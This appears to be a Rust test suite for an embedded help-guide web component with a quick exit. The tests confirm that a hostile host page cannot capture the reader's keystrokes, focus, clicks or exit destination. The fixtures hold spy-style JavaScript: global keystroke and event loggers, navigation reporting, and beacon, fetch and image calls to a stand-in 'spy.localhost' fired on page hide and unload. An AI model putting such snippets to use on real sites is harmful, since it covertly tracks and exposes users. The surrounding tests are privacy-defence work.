//! What is done in the guide is heard in the guide, and nowhere else on the page.

use std::time::Duration;

use serde_json::Value;

use crate::rig::{Device, Host, Key, Reader};

/// Listens to all that hands make, everywhere a page can. `told` are the events at the guide, or at nobody in particular.
const EARS: &str = "window.told = [];
    window.listens = () => {
        const kinds = ['focusin', 'focusout', 'beforeinput', 'compositionstart', 'selectionchange', 'visibilitychange'];
        const hands = /^on(anim|aux|before[cip]|blur|click|copy|cut|context|dbl|dr|focus|gest|got|input|key|lost|mouse|page|paste|pointer(?!raw)|select|touch|trans|wheel)/;
        for (const name in window) if (hands.test(name)) kinds.push(name.slice(2));
        for (const kind of kinds) {
            for (const place of [window, document, document.documentElement]) {
                for (const capture of [true, false]) {
                    place.addEventListener(kind, (event) => {
                        const at = event.target?.localName ?? (event.target === window ? 'window' : 'document');
                        // That a pointer came onto the page is the page's own.
                        if (/(enter|leave)$/.test(kind) && at === 'document') return;
                        if (/^(wayside|window|document)/.test(at)) window.told.push([kind, at, event.key ?? event.data ?? '']);
                    }, capture);
                }
            }
        }
    };";

/// The host's ears, opened before the guide's script has come, or after.
fn listening(first: bool) -> Host {
    let when =
        if first { "window.listens();" } else { "customElements.whenDefined('wayside-guide').then(window.listens);" };
    Host::with_tag().running(EARS).running(when)
}

impl Reader {
    /// Forgets what the host has been told so far.
    async fn tells_the_host_nothing_yet(self) -> Self {
        self.two_frames().await;
        self.runs("window.told.length = 0;").await
    }

    /// What the host has been told, of these kinds.
    async fn told_the_host(&self, kinds: &str) -> Vec<Value> {
        self.two_frames().await;
        self.asks(&format!("window.told.filter(([kind]) => /{kinds}/.test(kind))")).await
    }
}

#[tokio::test]
async fn a_host_that_listens_after_the_guide_hears_nothing_of_what_is_done_in_it() {
    let reader = Reader::on_a_desktop().await.opens(listening(false)).await.has_the_engine().await;
    let reader = reader.tells_the_host_nothing_yet().await;
    let reader = reader
        .taps_key("topic:police")
        .await
        .expects("an open topic", "details('topic:police').open")
        .await
        .presses(&[Key::Tab, Key::Enter])
        .await
        .searches_for("cops")
        .await
        .expects("results", "Number(root.querySelector('.results')?.dataset.found) > 0")
        .await
        .taps_key("search:clear")
        .await
        .expects("the topics again", "details('topic:police').getClientRects().length > 0 && search.value === ''")
        .await
        .taps_key("places:police")
        .await
        .expects("open places", "details('places:police').open")
        .await
        .taps("[data-key=\"places:police\"] [data-copied]")
        .await
        .expects(
            "a number that is copied",
            "[...root.querySelectorAll('[data-copied]')].some((one) => one.textContent.startsWith(one.dataset.copied))",
        )
        .await;
    let told = reader.told_the_host(".").await;
    reader.holds("nothing to be told", told.is_empty(), &told).await;
    // The host's page is the host's.
    let reader =
        reader.runs("window.clicked = 0; document.addEventListener('click', () => (window.clicked += 1));").await;
    reader.taps("body > footer").await.expects("a click on the host's own page", "window.clicked === 1").await;
}

/// Where the host was there first, it hears that something in the guide was pressed; it never hears what is typed.
#[tokio::test]
async fn a_host_that_listened_first_hears_no_letter_of_a_search() {
    let reader = Reader::on_a_desktop().await.opens(listening(true)).await.has_the_engine().await;
    let reader = reader.taps_key("search").await.tells_the_host_nothing_yet().await;
    let reader = reader.searches_for("cops").await;
    let reader = reader.expects("results", "Number(root.querySelector('.results')?.dataset.found) > 0").await;
    let told = reader.told_the_host("key|input|composition|selectstart|copy|paste").await;
    reader.holds("no key and no letter", told.is_empty(), &told).await;
    // And it does hear what it can hear.
    let reader = reader.taps(".results summary").await;
    let told = reader.told_the_host("click").await;
    reader.holds("a press in the guide", !told.is_empty(), &told).await;
}

/// A frame that takes the focus makes its page hear of it as if another window had.
#[tokio::test]
async fn the_host_does_not_hear_that_the_search_field_has_the_focus() {
    let reader = Reader::on_a_desktop().await.opens(listening(false)).await.has_the_engine().await;
    let reader =
        reader.tells_the_host_nothing_yet().await.taps_key("search").await.expects("the focus", "searching").await;
    let reader = reader.taps_key("topic:police").await.expects("an open topic", "details('topic:police').open").await;
    let reader = reader.waits(Duration::from_millis(200)).await;
    let told = reader.told_the_host("focus|blur").await;
    reader.holds("nothing of any focus", told.is_empty(), &told).await;
}

/// What is stopped on its way must still come to whom it was meant for.
#[tokio::test]
async fn buttons_in_the_guide_work_by_keyboard_too() {
    for key in [Key::Enter, Key::Space] {
        let reader = Reader::on_a_desktop().await.opens(Host::with_tag()).await.has_the_engine().await;
        let reader = reader.searches_for("cops").await.presses(&[Key::Tab]).await;
        let reader = reader.expects("the focus on the button", "root.activeElement === find('search:clear')").await;
        let reader = reader.presses(&[key]).await;
        reader
            .expects(
                "an empty field, ready for more",
                "search.value === '' && searching && !root.querySelector('.results')",
            )
            .await;
    }
}

#[tokio::test]
async fn a_press_that_slides_off_a_button_does_not_press_it() {
    let reader =
        Reader::on_a_desktop().await.opens(Host::with_tag()).await.has_the_engine().await.searches_for("cops").await;
    let reader = reader.presses_down_on("[data-key='search:clear']").await.moves_away().await.lets_go().await;
    reader.two_frames().await;
    reader.expects("the word still there", "search.value === 'cops' && !!root.querySelector('.results')").await;
}

/// What is drawn while a finger is down may put a button under it: it is not pressed, and the host does not hear of it.
#[tokio::test]
async fn what_comes_under_a_finger_that_is_down_is_not_pressed_and_not_told() {
    for device in [Device::DESKTOP, Device::PHONE] {
        let reader = Reader::with(device).await.opens(listening(false)).await.has_the_engine().await;
        let reader = reader.tells_the_host_nothing_yet().await.presses_down_on("h1, h2").await;
        let comes_under = "const button = document.createElement('button');
            const { left, top, width, height } = root.querySelector('h1, h2').getBoundingClientRect();
            button.onclick = () => (window.pressed = true);
            button.style.cssText = `position: fixed; left: ${left}px; top: ${top}px; width: ${width}px; height: ${height}px`;
            root.append(button);
            window.under = root.elementFromPoint(left + width / 2, top + height / 2) === button;";
        let reader = reader.runs(comes_under).await.expects("a button under the finger", "window.under").await;
        let reader = reader.lets_go().await;
        let told = reader.told_the_host("click|mouse|pointer|touch").await;
        reader.holds("nothing to be told", told.is_empty(), &told).await;
        reader.expects("a button that nobody pressed", "!window.pressed").await;
    }
}

/// It may be meant for something of the host's that Escape closes.
#[tokio::test]
async fn escape_in_the_guide_reaches_the_host() {
    let host = Host::with_tag().running("window.escapes = 0; document.addEventListener('keydown', ({ key }) => key === 'Escape' && (window.escapes += 1));");
    let reader = Reader::on_a_desktop().await.opens(host).await.has_the_engine().await;
    let reader = reader.taps_key("topic:police").await.presses(&[Key::Escape]).await;
    reader.expects("one Escape", "window.escapes === 1").await;
}

/// Firefox tells every listener what within a closed root was pressed, by names of its own.
#[tokio::test]
async fn no_event_tells_what_within_the_closed_root_it_was() {
    let host = Host::with_tag().running(
        "window.names = [];
         const note = (event) => window.names.push(...['target', 'originalTarget', 'explicitOriginalTarget', 'srcElement']
             .map((name) => event[name]?.localName).filter(Boolean), ...event.composedPath().map(({ localName }) => localName).filter(Boolean));
         for (const kind of ['click', 'pointerdown', 'mousedown', 'focusin', 'keydown']) addEventListener(kind, note, true);",
    );
    let reader = Reader::on_a_desktop().await.opens(host).await.has_the_engine().await;
    let reader = reader.taps_key("topic:police").await.expects("an open topic", "details('topic:police').open").await;
    reader
        .expects("something heard", "window.names.length > 0")
        .await
        .expects(
            "nothing of the inside",
            "window.names.every((name) => ['wayside-guide', 'main', 'body', 'html'].includes(name))",
        )
        .await;
}

/// Where a link of the guide leads, or the exit, is not for the host's router.
#[tokio::test]
async fn the_host_is_not_told_where_links_and_the_exit_lead() {
    let host = Host::with_tag().running(
        "window.navigation?.addEventListener('navigate', ({ destination }) => {
             const report = JSON.stringify({ leads: destination.url });
             fetch('/report', { method: 'POST', body: report, keepalive: true });
             window.led = destination.url;
         });",
    );
    let reader = Reader::on_a_phone().await.opens(host).await.has_the_engine().await.opens_everything().await;
    // So that the page is still there to be asked.
    let link = "const link = root.querySelector('.guide a.contact[href^=https]'); link.href = 'https://exit.localhost:' + location.port + '/204';";
    let reader = reader.runs(link).await.taps(".guide a.contact[href*='/204']").await;
    let reader = reader.waits(Duration::from_millis(500)).await;
    let led: Option<String> = reader.asks("window.led ?? null").await;
    let inner = led.as_deref().is_none_or(|address| address.contains("host.localhost"));
    reader.holds("no address of another site", inner, &led).await;
    let reader = reader.taps_exit().await.is_at("exit.localhost/ok").await;
    let reports = reader.world.log().reports();
    let telling: Vec<&Value> = reports.iter().filter(|report| report.to_string().contains("exit.localhost")).collect();
    reader.holds("no report of the exit's address", telling.is_empty(), &telling).await;
}

/// From the moment of leaving, the page can send nothing: not that somebody left, and not what it had noted before.
#[tokio::test]
async fn once_a_reader_leaves_the_hosts_scripts_can_send_nothing_more() {
    let host = |way: &str| {
        Host::with_tag().leading_to("/slow").running(&format!(
            "const spy = 'https://spy.localhost:' + location.port;
             const [send, ask] = [navigator.sendBeacon.bind(navigator), fetch.bind(window)];
             const tell = (how) => {{
                 try {{ send(spy + '/beacon?' + how, 'x'); }} catch {{}}
                 ask(spy + '/fetch?' + how, {{ mode: 'no-cors', keepalive: true }}).catch(() => {{}});
                 new Image().src = spy + '/image?' + how;
             }};
             {way}"
        ))
    };
    // The control: it does reach the spy while somebody reads.
    let reader = Reader::on_a_phone().await.opens(host("tell('reading');")).await.has_the_text().await;
    let spied = |reader: &Reader| reader.world.log().requests_to("spy.localhost").len();
    for _ in 0..100 {
        if spied(&reader) >= 3 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    reader.holds("three ways to tell", spied(&reader) >= 3, spied(&reader)).await;
    let way = "for (const kind of ['pagehide', 'visibilitychange', 'blur', 'beforeunload']) {
                   addEventListener(kind, () => tell(kind));
                   document.addEventListener(kind, () => tell(kind));
               }
               // Before its main part has come, the page is not emptied.
               let whole = false;
               const watch = (how) => document.body?.querySelector('main') ? (whole = true) : whole && tell(how);
               new MutationObserver(() => watch('emptied')).observe(document, { childList: true, subtree: true });
               setInterval(watch, 20, 'later');";
    let reader = Reader::on_a_phone().await.opens(host(way)).await.has_the_text().await.taps_exit().await;
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let told: Vec<String> = reader.world.log().requests_to("spy.localhost").iter().map(ToString::to_string).collect();
    reader.holds("nobody to be told", told.is_empty(), &told).await;
}
